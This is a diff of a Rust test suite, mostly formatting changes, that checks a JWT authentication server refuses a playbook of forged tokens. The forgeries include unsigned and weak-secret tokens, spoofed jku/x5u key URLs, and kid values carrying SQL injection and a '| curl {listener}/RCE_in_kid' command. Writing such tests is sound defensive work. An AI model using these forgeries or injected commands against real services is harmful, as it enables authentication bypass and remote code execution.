@@ -5,9 +5,7 @@
 
 use hmac::{Hmac, KeyInit, Mac};
 use jotwell::{Algorithm, JwkSet, SigningKey, base64url};
-use jotwell_http::{
-    AuthErrorKind, AuthPaths, ClientCredentials, Cookies, issuer_routes,
-};
+use jotwell_http::{AuthErrorKind, AuthPaths, ClientCredentials, Cookies, issuer_routes};
 use jotwell_test::TestJwks;
 use sha2::Sha256;
 
@@ -76,11 +74,19 @@ impl Original {
         let Self { header, claims, signature, key } = self;
         let input = format!("{}.{}", part(header), part(claims));
 
-        add("Broken signature".into(), format!("{input}.{}", &signature[..signature.len() - 4]), "BadSignature");
+        add(
+            "Broken signature".into(),
+            format!("{input}.{}", &signature[..signature.len() - 4]),
+            "BadSignature",
+        );
         for claim in claims.as_object().expect("claims").keys() {
             let mut changed = claims.clone();
             changed[claim] = json!(format!("jwt_inject_{claim}"));
-            add(format!("Claim processing check in {claim} claim"), self.unsigned(header, &changed), "BadSignature");
+            add(
+                format!("Claim processing check in {claim} claim"),
+                self.unsigned(header, &changed),
+                "BadSignature",
+            );
         }
         add("Blank password accepted in signature (-X b)".into(), self.hmac(&[], b""), "AlgorithmMismatch");
         add("Null signature (-X n)".into(), format!("{input}."), "BadSignature");
@@ -103,12 +109,20 @@ impl Original {
         let thumb = json!("jwt_tool");
         let inline = [("jwk", jwk.clone()), ("kid", thumb.clone())];
         add("Injected JWKS (-X i)".into(), self.by_stranger(stranger, &inline), "KeyNotFound");
-        add("Injected JWKS (-X i), same kid".into(), self.by_stranger(stranger, &[("jwk", jwk)]), "BadSignature");
+        add(
+            "Injected JWKS (-X i), same kid".into(),
+            self.by_stranger(stranger, &[("jwk", jwk)]),
+            "BadSignature",
+        );
         for name in ["jku", "x5u"] {
             let spoofed = [(name, json!(listener))];
             add(format!("Spoof JWKS (-X s), {name}"), self.by_stranger(stranger, &spoofed), "BadSignature");
             let spoofed = [(name, json!(listener)), ("kid", thumb.clone())];
-            add(format!("Spoof JWKS (-X s), {name}, own kid"), self.by_stranger(stranger, &spoofed), "KeyNotFound");
+            add(
+                format!("Spoof JWKS (-X s), {name}, own kid"),
+                self.by_stranger(stranger, &spoofed),
+                "KeyNotFound",
+            );
         }
         add("Signed by another key".into(), self.by_stranger(stranger, &[]), "BadSignature");
         for (kid, secret) in [
@@ -120,18 +134,34 @@ impl Original {
             (&format!("| curl {listener}/RCE_in_kid"), b""),
             ("x' UNION SELECT '1';--", b"1"),
         ] {
-            add(format!("Injected kid claim {kid:?}"), self.hmac(&[("kid", json!(kid))], secret), "KeyNotFound");
+            add(
+                format!("Injected kid claim {kid:?}"),
+                self.hmac(&[("kid", json!(kid))], secret),
+                "KeyNotFound",
+            );
         }
-        for password in ["secret", "password", "changeme", "...", "your-256-bit-secret", "jwt", "null", "undefined"] {
-            add(format!("Common password {password:?}"), self.hmac(&[], password.as_bytes()), "AlgorithmMismatch");
+        for password in
+            ["secret", "password", "changeme", "...", "your-256-bit-secret", "jwt", "null", "undefined"]
+        {
+            add(
+                format!("Common password {password:?}"),
+                self.hmac(&[], password.as_bytes()),
+                "AlgorithmMismatch",
+            );
         }
         // External interactions, forced errors, common claims.
-        let values =
-            [json!(listener), Value::Null, json!(true), json!(false), json!("jwt_tool"), json!(0)];
+        let values = [json!(listener), Value::Null, json!(true), json!(false), json!("jwt_tool"), json!(0)];
         for value in values {
-            for name in ["kid", "alg", "typ", "jku", "x5u", "jwk", "x5c", "x5t", "x5t#S256", "cty", "crit", "b64", "zip"] {
+            for name in [
+                "kid", "alg", "typ", "jku", "x5u", "jwk", "x5c", "x5t", "x5t#S256", "cty", "crit", "b64",
+                "zip",
+            ] {
                 let changed = self.header(&[(name, value.clone())]);
-                add(format!("Injected {value} into Header Claim: {name}"), self.unsigned(&changed, claims), "");
+                add(
+                    format!("Injected {value} into Header Claim: {name}"),
+                    self.unsigned(&changed, claims),
+                    "",
+                );
             }
             let own = claims.as_object().expect("claims").keys().map(String::as_str);
             for name in own.chain(["nbf", "admin", "username", "role", "email", "azp", "events"]) {
@@ -203,7 +233,11 @@ async fn refuses_the_playbook(algorithm: Algorithm) {
             };
             let seen = send(&server, request).await;
             let what = format!("{name}, {method} {path}: {seen:?}");
-            assert_eq!(seen.error(), super::refused(401, "invalid_token", "the token is not valid"), "{what}");
+            assert_eq!(
+                seen.error(),
+                super::refused(401, "invalid_token", "the token is not valid"),
+                "{what}"
+            );
             assert!(seen.header("www-authenticate").contains(r#"error="invalid_token""#), "{what}");
             assert_eq!(seen.cookies(), [], "{what}");
         }
@@ -211,11 +245,19 @@ async fn refuses_the_playbook(algorithm: Algorithm) {
         let body = json!({"refresh_token": token});
         for path in ["/refresh", "/logout"] {
             let seen = send(&server, json_body(ask("POST", path), &body)).await;
-            assert_eq!((seen.status, seen.text("error").as_str()), (400, "invalid_request"), "{name}, {path}");
+            assert_eq!(
+                (seen.status, seen.text("error").as_str()),
+                (400, "invalid_request"),
+                "{name}, {path}"
+            );
         }
         for path in ["/page/refresh", "/page/logout"] {
             let seen = send(&server, in_cookies("POST", path, &format!("__Host-refresh={token}"))).await;
-            assert_eq!((seen.status, seen.text("error").as_str()), (400, "invalid_request"), "{name}, {path}");
+            assert_eq!(
+                (seen.status, seen.text("error").as_str()),
+                (400, "invalid_request"),
+                "{name}, {path}"
+            );
             assert_eq!(seen.cookies(), [], "{name}, {path}");
         }
         // A login asks for the password alone.
@@ -225,7 +267,11 @@ async fn refuses_the_playbook(algorithm: Algorithm) {
             request.headers_mut().insert("authorization", headers["authorization"].clone());
             request.headers_mut().insert("cookie", format!("__Host-access={token}").parse().expect("text"));
             let seen = send(&server, request).await;
-            assert_eq!((seen.error().0, seen.text("error").as_str()), (400, "invalid_grant"), "{name}, {path}");
+            assert_eq!(
+                (seen.error().0, seen.text("error").as_str()),
+                (400, "invalid_grant"),
+                "{name}, {path}"
+            );
             assert_eq!(seen.cookies(), [], "{name}, {path}");
         }
         let seen = send(&server, form("/introspect", token)).await;
